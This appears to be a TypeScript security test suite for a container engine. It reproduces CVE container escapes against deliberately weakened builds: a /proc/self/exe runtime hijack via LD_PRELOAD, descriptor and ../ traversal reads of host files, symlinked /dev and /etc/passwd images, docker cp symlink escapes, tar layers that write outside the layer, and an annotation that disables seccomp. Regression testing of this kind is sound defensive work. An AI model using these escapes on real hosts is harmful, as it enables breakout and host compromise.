import { execFile, execFileSync } from "node:child_process";
import {
  chmodSync,
  copyFileSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  readlinkSync,
  rmSync,
  symlinkSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { Readable } from "node:stream";
import { promisify } from "node:util";
import { dockerArchive, layerOf, tarOf } from "#engine/images/archives.fixture.ts";
import { loadBusybox } from "../support/busybox-image.ts";
import type { EngineUnderTest } from "../support/engine.ts";
import { type EscapeCase, inContainer, madeIn, secret } from "./escape-case.ts";

const run = promisify(execFile);

/** What the engine does for images, clients and files; each is tried on a build of it that lacks the protection. */
export const engineCases: readonly EscapeCase[] = [
  {
    id: "E1",
    title: "a container that runs the runtime itself cannot write to it (CVE-2019-5736)",
    async attempt({ engine }) {
      const config = { Entrypoint: ["/proc/self/exe"], Env: ["PATH=/bin", "LD_PRELOAD=/hijack.so"] };
      await loadBusybox(engine, "hijack:latest", config, putRuntimeLibraries);
      const { stdout } = await engine.docker("run", "--rm", "hijack");
      await engine.docker("rmi", "-f", "hijack");
      return stdout.split("\n").filter((line) => line.includes("can be written"));
    },
    weakness: "weak engine",
  },
  {
    id: "E2",
    title: "no descriptor leads a working folder out of the container (CVE-2024-21626)",
    async attempt({ engine, options, victim }) {
      const found: string[] = [];
      for (let number = 3; number < 16; number++) {
        const where = ["-w", `/proc/self/fd/${number}`];
        const look = `cat ${"../".repeat(12)}${victim.slice(1)}/secret 2>/dev/null`;
        found.push(...(await inContainer({ engine, options: [...options, ...where] }, look)));
      }
      return found;
    },
    weakness: "weak engine",
  },
  {
    id: "E4",
    title: "a terminal is bound over nothing of the host's, whatever /dev has in its place (CVE-2025-52565)",
    async attempt({ engine, victim }) {
      const link = (place: string) =>
        `rm -rf ${place}/pts ${place}/console; ln -s ${victim} ${place}/pts; ln -s ${victim}/console ${place}/console`;
      await loadBusybox(engine, "consoles:latest", {}, (rootfs) =>
        execFileSync("sh", ["-c", link(`${rootfs}/dev`)]),
      );
      await engine.docker("run", "--rm", "-v", "devices:/v:nocopy", "probe", "sh", "-c", link("/v"));
      const found: string[] = [];
      for (const options of [[], ["-v", "devices:/dev:nocopy"]]) {
        const look = "cat /proc/self/mountinfo; cat /dev/console/secret /dev/pts/secret";
        const ran = await inContainer({ engine, options: ["-t", ...options] }, look, "consoles");
        found.push(...ran.filter((line) => line.includes(secret) || line.includes(victim)));
      }
      await engine.docker("volume", "rm", "devices");
      await engine.docker("rmi", "-f", "consoles");
      return [...found, ...madeIn(victim)];
    },
    weakness: "weak engine",
  },
  {
    id: "E6",
    title: "an image whose /dev is a link makes nothing on the host (CVE-2026-41579)",
    async attempt({ engine, victim }) {
      await loadBusybox(engine, "linked:latest", {}, (rootfs) => {
        rmSync(join(rootfs, "dev"), { recursive: true });
        symlinkSync(victim, join(rootfs, "dev"));
      });
      await engine.docker("run", "--rm", "linked", "true");
      await engine.docker("rmi", "-f", "linked");
      return madeIn(victim);
    },
    weakness: "weak engine",
  },
  {
    id: "E9",
    title: "docker cp reads and writes nothing of the host (CVE-2018-15664, CVE-2021-41089)",
    async attempt({ engine, victim }) {
      const local = mkdtempSync(join(tmpdir(), "gantry-local-"));
      const links = `ln -s ${victim}/secret /file; ln -s ${victim} /link; echo ready; sleep 1000`;
      await engine.docker("run", "-d", "--name", "copied", "probe", "sh", "-c", links);
      while (!(await engine.docker("logs", "copied")).stdout.includes("ready")) {}
      const found: string[] = [];
      for (const path of ["/link/secret", "/file", `/proc/1/root${victim}/secret`, `${victim}/secret`]) {
        await engine.docker("cp", "-L", `copied:${path}`, join(local, "out"));
        if (existsSync(join(local, "out"))) found.push(readFileSync(join(local, "out"), "utf8"));
        rmSync(join(local, "out"), { force: true });
        await engine.docker("cp", import.meta.filename, `copied:${dirname(path)}/written`);
      }
      await engine.docker("rm", "-f", "copied");
      rmSync(local, { recursive: true });
      return [...found.filter((text) => text.includes(secret)), ...madeIn(victim)];
    },
    weakness: "weak engine",
  },
  {
    id: "E13",
    title: "other users of the host see nothing of the engine's folders (CVE-2021-41091)",
    async attempt({ engine }) {
      chmodSync(join(engine.run, ".."), 0o755);
      const nobody = ["--reuid", "65534", "--regid", "65534", "--clear-groups", "--"];
      const find = ["find", engine.root, "-mindepth", "1", "-maxdepth", "1"];
      return run("setpriv", [...nobody, ...find]).then(
        ({ stdout }) => stdout.split("\n").filter((line) => line !== ""),
        () => [],
      );
    },
    weakness: "weak engine",
  },
  {
    id: "E15",
    title: "a container in the host's network sees no abstract socket of the engine's (CVE-2020-15257)",
    async attempt({ engine }) {
      const seen = await inContainer({ engine, options: ["--network", "host"] }, "cat /proc/net/unix");
      const ours = socketsOf(engine);
      return seen.filter((line) => line.includes(" @") && ours.has(line.split(/ +/)[6] ?? ""));
    },
    weakness: "weak engine",
  },
  {
    id: "E23",
    title: "no capability is inheritable or ambient (CVE-2022-24769)",
    attempt: (subject) =>
      inContainer(subject, "grep -E '^Cap(Inh|Amb)' /proc/self/status | grep -v 0000000000000000"),
    weakness: "weak engine",
  },
  {
    id: "E24",
    title: "no user becomes root by a number that is too large",
    async attempt({ engine }) {
      const found: string[] = [];
      for (const user of ["4294967296", "8589934592:0", "-0x0", "1e0"])
        found.push(...(await inContainer({ engine, options: ["-u", user] }, "echo uid $(id -u)")));
      return found.filter((line) => line === "uid 0");
    },
    weakness: "weak engine",
  },
  {
    id: "E27",
    title: "annotations of clients do not steer the runtime (CVE-2026-53488)",
    attempt: ({ engine }) => {
      const allowAll = "run.oci.seccomp_bpf_data=BgAAAAAA/38=";
      return inContainer({ engine, options: ["--annotation", allowAll] }, "/probe keys");
    },
    weakness: "weak engine",
  },
  {
    id: "E31",
    title: "an image whose /etc/passwd is a link to the host's names no user (CVE-2024-9676)",
    async attempt({ engine, victim }) {
      await loadBusybox(engine, "users:latest", {}, (rootfs) => {
        rmSync(join(rootfs, "etc/passwd"));
        symlinkSync(join(victim, "passwd"), join(rootfs, "etc/passwd"));
      });
      const found = await inContainer({ engine, options: ["-u", "evil"] }, "echo uid $(id -u)", "users");
      await engine.docker("rmi", "-f", "users");
      return found;
    },
    weakness: "weak engine",
  },
  {
    id: "E32",
    title: "no entry of a layer lands outside of it",
    async attempt({ engine, victim }) {
      const up = "../".repeat(20);
      const layer = tarOf(
        { path: `${up}${victim.slice(1)}/up`, content: "x" },
        { path: "link", linkTo: victim },
        { path: "link/through", content: "x" },
      );
      await engine.upload(
        "POST",
        "/images/load",
        Readable.from([dockerArchive([{ layers: [layer], tags: ["up:1"] }])]),
      );
      await engine.docker("rmi", "-f", "up:1");
      return madeIn(victim);
    },
    weakness: "weak engine",
  },
  {
    id: "E35",
    title: "an image whose layer is not what it says is not taken",
    async attempt({ engine }) {
      const layer = layerOf("file", "genuine");
      const archive = dockerArchive([{ layers: [layer], tags: ["lie:1"] }]);
      const lie = Buffer.from(archive.toString("latin1").replace("genuine", "changed"), "latin1");
      const { body } = await engine.upload("POST", "/images/load", Readable.from([lie]));
      await engine.docker("rmi", "-f", "lie:1");
      return body.split("\n").filter((line) => line.includes("Loaded image"));
    },
    weakness: "weak engine",
  },
];

/** Inodes of the sockets that processes with this engine's folders in their command lines have open. */
function socketsOf(engine: EngineUnderTest): ReadonlySet<string> {
  const found = new Set<string>();
  for (const pid of readdirSync("/proc").filter((name) => /^\d+$/.test(name)))
    try {
      if (!readFileSync(`/proc/${pid}/cmdline`, "latin1").includes(engine.run)) continue;
      for (const fd of readdirSync(`/proc/${pid}/fd`)) {
        const inode = /^socket:\[(\d+)\]$/.exec(readlinkSync(`/proc/${pid}/fd/${fd}`))?.[1];
        if (inode !== undefined) found.add(inode);
      }
    } catch {
      // it has ended meanwhile
    }
  return found;
}

/** The runtime as a container's program finds them where the host has them; and first of all the one that takes it over. */
function putRuntimeLibraries(rootfs: string): void {
  execFileSync("gcc", [
    "-shared",
    "-fPIC",
    "-o",
    join(rootfs, "hijack.so"),
    join(import.meta.dirname, "hijack.c"),
  ]);
  const linked = execFileSync("ldd", ["/usr/bin/crun"], { encoding: "utf8" });
  for (const [path] of linked.matchAll(/\/\S+/g)) {
    mkdirSync(join(rootfs, dirname(path)), { recursive: true });
    copyFileSync(path, join(rootfs, path));
  }
}
